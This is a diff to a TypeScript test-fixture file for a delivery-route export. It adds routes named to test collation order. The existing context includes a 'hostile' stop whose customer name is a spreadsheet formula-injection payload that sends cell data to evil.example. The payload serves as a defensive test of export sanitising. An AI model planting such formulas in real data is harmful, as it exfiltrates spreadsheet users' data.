@@ -127,7 +127,7 @@ export const exportFrom = '2026-11-22';
 export const exportTo = '2026-11-28';
 
 /**
- * Adds to the world, through the real push as the dispatcher: a route in range without stops, a
+ * Adds to the world, through the real push as the dispatcher: routes in range without stops, a
  * route after the range with a stop, and a stop whose customer fields start like formulas.
  * Returns the hostile stop's id.
  */
@@ -147,6 +147,10 @@ export async function addExportFixtures(w: World): Promise<{ hostileStopId: stri
   await push([
     { type: 'route.create', routeId: 'route-a3', name: 'Afternoon, "late" run', date: '2026-11-23' },
     { type: 'route.create', routeId: 'route-a4', name: 'Next month', date: '2026-12-30' },
+    // Names whose order differs between code-unit and locale collation: the file's order is the same on every database.
+    { type: 'route.create', routeId: 'route-a5', name: 'b route', date: '2026-11-24' },
+    { type: 'route.create', routeId: 'route-a6', name: 'B Route', date: '2026-11-24' },
+    { type: 'route.create', routeId: 'route-a7', name: '_early', date: '2026-11-24' },
     { type: 'stop.create', stopId: 'stop-a4-0', routeId: 'route-a4', sequence: 0, customerName: 'Out Of Range', address: '9 Far Road', phone: null, notes: '', window: { start: 1_800_000_000_000, end: 1_800_000_600_000 } },
     {
       type: 'stop.create', stopId: hostileStopId, routeId: w.routes.A2, sequence: 7, customerName: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
